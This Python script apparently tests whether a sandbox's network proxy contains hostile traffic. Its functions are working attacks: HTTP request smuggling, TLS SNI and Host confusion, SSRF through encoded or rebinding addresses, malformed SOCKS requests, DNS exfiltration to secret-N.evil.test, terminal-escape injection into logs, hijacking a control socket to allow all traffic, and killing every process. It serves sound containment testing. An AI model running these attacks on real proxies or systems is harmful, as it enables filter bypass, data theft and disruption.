#!/usr/bin/python3
"""Runs: in a region, or beside a careless proxy as the positive control. Attacks on the proxy of a region, a function each. Ends 0 and says what was won, or ends 1.

usage: proxy.py ATTACK PROXY-PORT WEB-PORT
"""
import contextlib
import os
import signal
import socket
import stat
import struct
import sys

CANARY = b"lethe-hostile-canary"
ATTACK, PROXY, WEB = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
SECONDS = 60  # only against hanging


def dial():
    return socket.create_connection(("127.0.0.1", PROXY), timeout=SECONDS)


def rest(s):
    got = b""
    try:
        while part := s.recv(65536):
            got += part
    except OSError:
        pass
    return got


def sent(*pieces, end=True):
    """What comes back for these bytes."""
    with dial() as s:
        try:
            for piece in pieces:
                s.sendall(piece)
            if end:
                s.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        return rest(s)


def tunnel(target, *pieces):
    """CONNECT, and then these bytes."""
    with dial() as s:
        s.sendall(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target))
        head = b""
        while not head.endswith(b"\r\n\r\n"):
            part = s.recv(1)
            if not part:
                return head
            head += part
        if not head.startswith(b"HTTP/1.1 200"):
            return rest(s)
        try:
            for piece in pieces:
                s.sendall(piece)
            s.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        return rest(s)


def get(host, extra=b"", uri=None):
    return b"GET %s HTTP/1.1\r\nHost: %s:%d\r\n%s\r\n" % (uri or b"http://%s:%d/" % (host, WEB), host, WEB, extra)


OTHER = b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n"


def host_of_another():
    return sent(b"GET http://web.test:%d/ HTTP/1.1\r\nHost: other.test\r\n\r\n" % WEB)


def two_hosts():
    return sent(get(b"web.test", b"Host: other.test\r\n"))


def two_lengths():
    return sent(b"POST http://web.test:%d/ HTTP/1.1\r\nHost: web.test:%d\r\nContent-Length: %d\r\nContent-Length: 0\r\n\r\n%s" % (WEB, WEB, len(OTHER), OTHER))


def length_and_chunks():
    body = b"0\r\n\r\n" + OTHER
    return sent(b"POST http://web.test:%d/ HTTP/1.1\r\nHost: web.test:%d\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n%s" % (WEB, WEB, len(body), body))


def bare_line_feed():
    return sent(get(b"web.test", b"X: y\nHost: other.test\r\n"))


def line_feed_in_the_uri():
    return sent(b"GET http://web.test:%d/\nHost:other.test HTTP/1.1\r\nHost: web.test:%d\r\n\r\n" % (WEB, WEB))


def folded_line():
    return sent(get(b"web.test", b"X: y\r\n Z: z\nHost: other.test\r\n"))


def request_behind_a_request():
    return sent(get(b"web.test") + OTHER)


def request_behind_an_upgrade():
    return sent(get(b"web.test", b"Connection: Upgrade\r\nUpgrade: websocket\r\n"), OTHER)


def user_in_the_uri():
    return sent(b"GET http://web.test:%d@other.test:%d/ HTTP/1.1\r\nHost: other.test\r\n\r\n" % (WEB, WEB))


def plain_in_a_tunnel_for_tls():
    return tunnel(b"web.test:443", b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")


def hello(names, lists=1):
    """A TLS hello: `lists` extensions server_name, the names spread over them."""
    extensions = b""
    for i in range(lists):
        entries = b"".join(b"\0" + struct.pack(">H", len(n)) + n for n in names[i::lists])
        body = struct.pack(">H", len(entries)) + entries
        extensions += struct.pack(">HH", 0, len(body)) + body
    body = b"\3\3" + bytes(32) + b"\0" + struct.pack(">H", 2) + b"\x13\x01" + b"\1\0" + struct.pack(">H", len(extensions)) + extensions
    return b"\1" + struct.pack(">I", len(body))[1:] + body


def records(handshake, size=16384):
    return b"".join(b"\x16\3\1" + struct.pack(">H", len(handshake[i:i + size])) + handshake[i:i + size] for i in range(0, len(handshake), size))


def hello_for_another():
    return tunnel(b"web.test:443", records(hello([b"other.test"])))


def hello_in_bytes():
    return tunnel(b"web.test:443", *[bytes([b]) for b in records(hello([b"other.test"]))])


def hello_in_records_of_a_byte():
    return tunnel(b"web.test:443", records(hello([b"other.test"]), 1))


def hello_with_two_names():
    return tunnel(b"web.test:443", records(hello([b"web.test", b"other.test"])))


def hello_with_two_lists():
    return tunnel(b"web.test:443", records(hello([b"web.test", b"other.test"], 2)))


def second_hello():
    return tunnel(b"web.test:443", records(hello([b"other.test"])[:20]) + b"\x15\3\1\0\2\1\0" + records(hello([b"other.test"])))


def name_of_a_private_address():
    return tunnel(b"private.test:%d" % WEB)


def name_with_two_addresses():
    return tunnel(b"both.test:%d" % WEB)


def mapped_address():
    return tunnel(b"mapped.test:%d" % WEB)


def address_in_brackets():
    return tunnel(b"[::ffff:10.9.9.9]:%d" % WEB)


def number_for_an_address():
    got = b""
    for text in (b"168364297", b"0x0a090909", b"10.9.2313", b"012.9.9.9"):  # 10.9.9.9
        got += tunnel(text + b":%d" % WEB)
    return got


def rebinding():
    got = b""
    for _ in range(6):
        got += tunnel(b"rebind.dns.test:%d" % WEB)
    return got


def socks(name, length=None):
    with dial() as s:
        s.sendall(b"\5\1\0")
        if s.recv(2) != b"\5\0":
            return b""
        try:
            s.sendall(b"\5\1\0\3" + bytes([len(name) if length is None else length]) + name + struct.pack(">H", WEB))
            s.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        return rest(s)


def socks_name_with_a_zero():
    return socks(b"hidden.test\0.wild.test")


def socks_name_of_an_odd_length():
    got = b""
    for name, length in ((b"hidden.test", 255), (b"", 0), (b"hidden.test" + b"." * 244, 255), (b"hidden.test.", None), (b"hidden.test", 12)):
        got += socks(name, length)
    return got


def socks_binds():
    """BIND and UDP ASSOCIATE: a port of the machine for the region."""
    got = b""
    for command in (2, 3):
        with dial() as s:
            s.sendall(b"\5\1\0")
            s.recv(2)
            s.sendall(b"\5" + bytes([command]) + b"\0\1\0\0\0\0\0\0")
            got += CANARY if s.recv(10)[1:2] == b"\0" else b""
    return got


def names_as_a_channel():
    """A look-up of a name carries its letters to whoever serves the domain: run by the harness, which is that server."""
    for i in range(20):
        tunnel(b"secret-%d.evil.test:443" % i)
    return b""


def a_question_without_the_proxy():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            s.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\4evil\4test\0\0\1\0\1", ("127.0.0.1", 53))
        except OSError:
            pass
    return b""


def letters_that_draw():
    """A name that clears the screen of who reads the record."""
    for name in (b"a\x1b[2Jb.test", b"a\nregion.test", "a\u202eb.test".encode(), b"a\x9bb.test"):
        tunnel(name + b":80")
        socks(name)
    return b""


def control_channel():
    """A packet socket among the descriptors that says OPEN: a new table, in which everything is allowed (schema/proxy.h)."""
    net = struct.pack("BB16s", 0, 0, bytes(16))
    rule = struct.pack("254sBBHH16s", b"test", 2, 1, 1, 65535, bytes(16))
    for fd in range(3, 256):
        try:
            s = socket.fromfd(fd, socket.AF_UNIX, socket.SOCK_SEQPACKET) if stat.S_ISSOCK(os.fstat(fd).st_mode) else None
        except OSError:
            s = None
        if s is None:
            continue
        with s:
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_DOMAIN) != socket.AF_UNIX or s.getsockopt(socket.SOL_SOCKET, socket.SO_TYPE) != socket.SOCK_SEQPACKET:
                continue
            listener = socket.create_server(("127.0.0.1", 0))
            listener.setblocking(False)
            body = struct.pack("QQQIIII", 0, 0, 0, 1, 1, 0, 0) + rule + net
            try:
                socket.send_fds(s, [struct.pack("II", 1, 8 + len(body)) + body], [listener.fileno()])
            except OSError:
                continue
            global PROXY
            PROXY = listener.getsockname()[1]
            listener.close()
            return tunnel(b"hidden.test:%d" % WEB)
    return b""


def kill_everything():
    """Signals to all that can be named, and then: does the proxy answer?"""
    with contextlib.suppress(OSError):  # not to end the control's own starter
        os.setsid()
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        for pid in [*range(2, 4096), -1]:
            try:
                if pid not in (os.getpid(), os.getppid()):
                    os.kill(pid, sig)
            except OSError:
                pass
    try:
        with socket.create_connection(("127.0.0.1", PROXY), timeout=3) as s:
            s.sendall(get(b"web.test", b"Connection: close\r\n"))
            return b"" if rest(s).endswith(b"public") else CANARY
    except OSError:
        return CANARY


def main():
    got = globals()[ATTACK]()
    if CANARY in got:
        print("ESCAPED: " + ATTACK)
        sys.exit(0)
    if ATTACK != "kill_everything" and not sent(get(b"web.test", b"Connection: close\r\n"), end=False).endswith(b"public"):
        print("the proxy serves nobody any more")
        sys.exit(2)
    print("contained: %r" % got[:200])
    sys.exit(1)


main()
